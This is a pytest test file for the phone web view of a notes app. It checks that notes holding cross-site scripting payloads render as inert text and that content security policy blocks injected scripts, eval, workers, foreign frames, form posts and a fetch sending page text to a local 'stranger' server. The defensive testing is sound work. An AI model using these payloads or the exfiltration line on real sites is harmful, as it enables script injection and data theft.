"""What is no part of the page does not run in it: neither what somebody slips in, nor what is written in a note."""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from threading import Thread

import pytest

from tests.phone.browsers import Browser
from tests.phone.conftest import MakePhone
from tests.phone.phones import Phone
from tests.system.harness import Device, Fleet

TITLE = "<img src=x onerror='window.ran=1'>"
WORDS = """\
<script>window.ran = 2</script>
<svg onload="window.ran = 3"></svg> <iframe srcdoc="<script>parent.ran = 4</script>"></iframe>

[press me](javascript:window.ran=5) and <a href="javascript:window.ran=6">me</a>

![](x" onerror="window.ran=7) {{constructor.constructor('window.ran=8')()}} ${window.ran=9}
"""
WATCH = """
    window.ran = 0;
    window.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""
LATER = "setTimeout(() => { %s }, 0);"  # what the driver itself runs is beyond every policy
SLIPPED_IN = {
    "an inline script": (
        "const one = document.createElement('script'); one.textContent = 'window.ran = 11'; document.body.append(one)",
        "script-src-elem",
    ),
    "a handler": ("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran=12\">')",
                  "script-src-attr"),
    "a foreign script": (
        "const one = document.createElement('script'); one.src = FOREIGN; document.body.append(one)",
        "script-src-elem",
    ),
    "eval": ("try { eval('window.ran = 13') } catch {}", "script-src"),
    "a worker of its own making": (
        "try { new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))) } catch {}", "worker-src"),
    "a foreign frame": ("const one = document.createElement('iframe'); one.src = FOREIGN; document.body.append(one)",
                        "frame-src"),
    "words to a stranger": ("fetch(FOREIGN, {method: 'POST', body: document.body.innerText}).catch(() => {})",
                            "connect-src"),
    "a form to a stranger": (
        "const one = document.createElement('form'); one.action = FOREIGN; document.body.append(one); one.submit()",
        "form-action",
    ),
    "another base": ("document.head.insertAdjacentHTML('beforeend', `<base href=${FOREIGN}>`)", "base-uri"),
}  # fmt: skip


@contextmanager
def stranger() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else: where it is, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            """A script that tells that it ran."""
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/javascript")
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()
            self.wfile.write(b"window.ran = 99")

        do_POST = do_GET  # noqa: N815 - as the base class calls it

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002 - as the base class calls it
            """Nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://localhost:{server.server_port}/x.js", asked
    finally:
        server.shutdown()
        server.server_close()


@pytest.fixture
def member(fleet: Fleet, new_phone: MakePhone) -> tuple[Device, Phone]:
    """A Mac and its phone, whose page tells what it was kept from."""
    (mac,) = fleet.joined(1)
    mac.start()
    mac.note(TITLE, WORDS)
    phone = new_phone()
    phone.pair(mac)
    phone.idle()
    phone.browser.command("Page.addScriptToEvaluateOnNewDocument", source=WATCH)
    phone.open("notes")
    return mac, phone


def ran(browser: Browser) -> object:
    """What ran that should not have."""
    return browser.driver.execute_script("return window.ran")


def test_a_note_of_html_is_text(member: tuple[Device, Phone]) -> None:
    """It is read as it was written, in the list and whole; nothing of it runs, and nothing has to be kept from it."""
    _, phone = member
    phone.sees(TITLE)
    phone.browser.run("[...document.querySelectorAll('a')].find((one) => one.innerText.includes('<img')).click()")
    for words in ("<script>window.ran = 2</script>", '<a href="javascript:window.ran=6">me</a>', "${window.ran=9}"):
        phone.sees(words)
    made = (
        "return document.querySelectorAll('main script, main iframe, main img, main [onload], main [onerror]').length"
    )
    assert phone.browser.driver.execute_script(made) == 0
    links = "return [...document.querySelectorAll('a')].filter((one) => one.protocol === 'javascript:').length"
    assert phone.browser.driver.execute_script(links) == 0
    phone.go("inbox", "Inbox")
    phone.capture(f"{TITLE}\n{WORDS}")
    phone.go("brief", "Brief")
    assert ran(phone.browser) == 0
    assert phone.browser.driver.execute_script("return violations") == []


def test_nothing_that_is_slipped_in_runs(member: tuple[Device, Phone]) -> None:
    """Each is kept from running, by a rule that the browser names; and no stranger hears anything."""
    _, phone = member
    phone.sees(TITLE)
    with stranger() as (foreign, asked):
        for what, (script, directive) in SLIPPED_IN.items():
            phone.browser.driver.execute_script("violations.length = 0")
            phone.browser.driver.execute_script(LATER % script.replace("FOREIGN", f"{foreign!r}"))
            seen = "return violations"
            phone.browser.wait(what, lambda: phone.browser.driver.execute_script(seen))  # noqa: B023 - at once
            found = phone.browser.driver.execute_script(seen)
            assert directive in found, (what, found)
        assert asked == []
    assert ran(phone.browser) == 0
    phone.go("inbox", "Inbox")
    phone.capture("And the page goes on")
    phone.idle()
